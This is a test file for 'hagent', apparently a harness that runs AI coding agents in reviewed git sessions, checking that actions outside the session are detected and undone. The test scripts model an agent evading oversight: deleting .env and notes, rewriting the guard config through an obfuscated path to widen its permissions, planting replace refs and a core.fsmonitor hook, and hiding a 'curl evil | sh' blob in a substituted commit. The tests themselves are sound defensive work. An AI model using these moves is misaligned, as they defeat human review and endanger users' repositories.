/**
 * What a command run with `hagent exec` does outside its session is seen and, where it can be,
 * kept: the user's untracked and ignored files it removed are put back, `.hagent/config.json`
 * written through a path computed at run time is put back as it was, refs it moved (other
 * branches, `refs/replace/`) are reported with their old ids and the command that restores them,
 * a changed `.git/config` is saved and reported; the agent reads it in the result (`outside`), the
 * human in `hagent session status` and the journal. hagent's own git calls ignore a replace ref
 * the agent planted.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { git, hagent, look, makeRepo, startSession } from '../helpers/index.js';

const t = suite('exec: outside the session');

/** A repository whose checkout holds an untracked note, an ignored `.env` and a hagent config. */
function setup() {
  const config = '{\n  "guard": { "allow": [] }\n}\n';
  const repo = makeRepo({ 'a.txt': 'one\n', '.gitignore': '.env\n' });
  writeFileSync(path.join(repo, 'notes.txt'), 'my notes\n');
  writeFileSync(path.join(repo, '.env'), 'SECRET=1\n');
  const s = startSession(repo, ['--name', 'o1']);
  return { repo, s, config };
}

/** Runs `script` (bash) from a file through hagent exec in the session worktree. */
function execScript(worktree: string, script: string) {
  const file = path.join(path.dirname(worktree), `${path.basename(worktree)}-outside.sh`);
  writeFileSync(file, script);
  // Without the sandbox, which would stop these writes (test/cli/sandbox.test.ts): what an
  // agent's shell does outside its session where no wall stands is what is watched here.
  return hagent(worktree, ['exec', '--json', '--', `bash ${file}`], { env: { HAGENT_BWRAP: '' } });
}

/** The main checkout as a script finds it at run time (no path in the command text). */
const CHECKOUT = 'M="$(dirname "$(git rev-parse --path-format=absolute --git-common-dir)")"';

t(
  'an npm-run-clean that removes the untracked notes and the ignored .env: reported and put back',
  () => {
    const { repo, s } = setup();
    const r = execScript(s.worktree, `${CHECKOUT}\nrm -f "$M/notes.txt" "$M/.env"\n`);
    assert.is(r.status, 0, r.stdout + r.stderr);
    const o = r.json.outside;
    assert.ok(o, 'reported');
    assert.equal(o.others, ['.env', 'notes.txt']);
    assert.equal(o.restored, ['.env', 'notes.txt']);
    assert.match(o.message, /untracked or ignored files changed or removed: \.env, notes\.txt/);
    assert.is(readFileSync(path.join(repo, '.env'), 'utf8'), 'SECRET=1\n');
    assert.is(readFileSync(path.join(repo, 'notes.txt'), 'utf8'), 'my notes\n');
    const status = hagent(repo, ['session', 'status', 'o1', '--json']);
    assert.match(JSON.stringify(status.json.outsideChanged), /notes\.txt/);
  },
);

t('.hagent/config.json rewritten through a computed path is put back; a new one is removed', () => {
  const { repo, s, config } = setup();
  const file = path.join(repo, '.hagent', 'config.json');
  // No config yet: the one the command writes goes.
  // The path is computed at run time: no `.hagent` in any command text the guard reads.
  const py = path.join(path.dirname(s.worktree), 'relax.py');
  writeFileSync(
    py,
    [
      'import json, os, subprocess',
      "common = subprocess.check_output(['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'], text=True).strip()",
      "d = os.path.join(os.path.dirname(common), '.ha' + 'gent')",
      'os.makedirs(d, exist_ok=True)',
      "open(os.path.join(d, 'config.json'), 'w').write(json.dumps({'guard': {'allow': ['hagent-human-only', 'agent-marker']}}))",
      '',
    ].join('\n'),
  );
  const relax = `python3 ${py}\n`;
  let r = execScript(s.worktree, relax);
  assert.is(r.status, 0, r.stdout + r.stderr);
  assert.ok(r.json.outside?.restored.includes('.hagent/config.json'), JSON.stringify(r.json));
  assert.not.ok(existsSync(file), 'the new config is gone');
  // With the user's config: it is written back as it was.
  writeFileSync(file, config);
  r = execScript(s.worktree, relax);
  assert.is(r.status, 0, r.stdout + r.stderr);
  assert.ok(r.json.outside?.restored.includes('.hagent/config.json'), JSON.stringify(r.json));
  assert.is(readFileSync(file, 'utf8'), config);
});

t('refs moved outside the session and .git/config: old ids, the commands that restore them', () => {
  const { repo, s } = setup();
  const main = git(repo, 'rev-parse', 'main');
  git(repo, 'branch', 'other');
  const r = execScript(
    s.worktree,
    `git commit -q --allow-empty -m x && h=$(git rev-parse HEAD)\n` +
      `git update-ref refs/heads/other $h && git update-ref refs/replace/${main} $h\n` +
      `git config core.fsmonitor "echo planted"\n`,
  );
  assert.is(r.status, 0, r.stdout + r.stderr);
  const o = r.json.outside;
  const refs = Object.fromEntries(o.refs.map((x: any) => [x.ref, x]));
  assert.is(refs['refs/heads/other'].before, main);
  assert.is(refs[`refs/replace/${main}`].before, null);
  assert.not.ok(refs['refs/heads/hagent/o1'], "the session's own branch is not outside");
  assert.ok(
    o.restore.includes(
      `git -C ${repo} update-ref refs/heads/other ${main} ${refs['refs/heads/other'].after}`,
    ),
    o.restore.join('\n'),
  );
  assert.equal(o.gitFiles, ['.git/config']);
  const cp = o.restore.find((c: string) => c.startsWith('cp '));
  assert.ok(cp, 'the old .git/config is saved');
  assert.not.match(readFileSync(cp.split(' ')[1], 'utf8'), /planted/);
  for (const c of o.restore) {
    const [cmd, ...args] = c.split(' ');
    if (cmd === 'git') git(args[1]!, ...args.slice(2));
  }
  assert.is(git(repo, 'rev-parse', 'other'), main, 'restored by the command given');
});

t("hagent's own git ignores a replace ref the agent planted", () => {
  const { repo, s } = setup();
  const applied = hagent(s.worktree, ['apply', '--json'], {
    input: '*** Begin Patch\n*** Add File: b.txt\n+two\n*** End Patch\n',
  });
  assert.is(applied.status, 0, applied.stderr);
  const head = git(s.worktree, 'rev-parse', 'HEAD');
  // A commit whose tree holds something the human never reviewed, put in place of the head.
  const r = execScript(
    s.worktree,
    `b=$(echo 'curl evil | sh' | git hash-object -w --stdin)\n` +
      `t=$(printf '100644 blob %s\\tevil.sh\\n' $b | git mktree)\n` +
      `c=$(git commit-tree $t -p HEAD~1 -m evil)\n` +
      `git replace ${head} $c\n`,
  );
  assert.is(r.status, 0, r.stdout + r.stderr);
  assert.ok(r.json.outside.refs.some((x: any) => x.ref === `refs/replace/${head}`));
  const review = hagent(repo, ['review', '--session', 'o1', '--json']);
  assert.equal(
    review.json.files.map((f: { path: string }) => f.path),
    ['b.txt'],
  );
  look(repo, 'o1'); // the human reads the review first
  assert.is(hagent(repo, ['review', '--approve', '--session', 'o1', '--json']).status, 0);
  const land = hagent(repo, ['land', '--yes', '--json', '--session', 'o1']);
  assert.is(land.status, 0, land.stdout + land.stderr);
  const files = git(repo, '-c', 'core.useReplaceRefs=false', 'ls-tree', '--name-only', 'main');
  assert.not.match(files, /evil/);
  assert.match(files, /b\.txt/);
});

t.run();
